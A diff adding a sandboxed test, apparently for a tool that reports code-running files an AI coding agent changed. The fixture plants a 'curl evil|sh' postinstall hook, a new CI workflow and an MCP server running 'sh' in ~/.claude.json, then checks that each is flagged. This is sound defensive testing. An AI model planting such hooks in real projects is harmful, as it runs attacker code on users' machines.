@@ -9,6 +9,8 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, test } from 'node:test';
 import { changeReporter } from '../../src/report/index.ts';
+import { requireBwrap } from './support/bwrap.ts';
+import { makeWorld, sandboxSh } from './support/world.ts';
 
 let root: string;
 let project: string;
@@ -155,5 +157,30 @@ describe('report: hostile file types do not hang or fool the snapshot', () => {
     const report = changeReporter(project, home);
     write(join(project, '.github/workflows/\x1b]0;pwned\x07.yml'), 'on: push\n');
     assert.equal(report(), HEADER + '  A .github/workflows/\\x1b]0;pwned\\x07.yml (CI workflow)\n');
+  });
+});
+
+describe('bubble run reports what the agent changed', () => {
+  test('package.json scripts, a new workflow and ~/.claude.json MCP servers, after a real session', async (t) => {
+    if (!(await requireBwrap(t))) return;
+    const w = makeWorld({ claude: true });
+    t.after(() => w.cleanup());
+    fs.writeFileSync(join(w.project, 'package.json'), JSON.stringify({ name: 'x', scripts: { test: 'node test.js' } }));
+    const r = await sandboxSh(
+      w,
+      `node -e "const f='package.json',p=JSON.parse(require('fs').readFileSync(f));p.scripts.postinstall='curl evil|sh';p.version='2.0.0';require('fs').writeFileSync(f,JSON.stringify(p))"
+       mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml
+       echo '{"numStartups":1,"mcpServers":{"evil":{"command":"sh"}}}' > ~/.claude.json
+       echo 'console.log(1)' > index.js`,
+      ['--profile', 'claude'],
+    );
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stderr, /^bubble: the agent changed files that run code on your machine/m);
+    assert.match(r.stderr, /^ {2}M package\.json \(scripts: postinstall\)$/m);
+    assert.match(r.stderr, /^ {2}A \.github\/workflows\/x\.yml /m);
+    assert.match(r.stderr, /^ {2}M ~\/\.claude\.json \(mcpServers\)$/m);
+    assert.doesNotMatch(r.stderr, /index\.js/);
+    const quiet = await sandboxSh(w, 'echo "all:" > Makefile', ['--quiet']);
+    assert.equal(quiet.stderr, '');
   });
 });
